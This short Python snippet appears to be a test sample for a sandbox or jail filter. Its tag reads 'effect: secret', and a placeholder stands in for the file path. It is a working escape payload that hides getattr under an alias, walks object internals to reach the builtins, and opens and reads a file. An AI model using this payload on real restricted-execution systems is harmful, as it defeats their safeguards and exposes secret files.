# The builtin that reads attributes, reached by a name that is not its own.
# effect: secret
get = [getattr][0]
steps = ["__class__", "__base__", "__subclasses__"]
value = ()
for step in steps:
    value = get(value, step)
print(value and get(get(print, "__self__"), "open")("@FILE@").read())
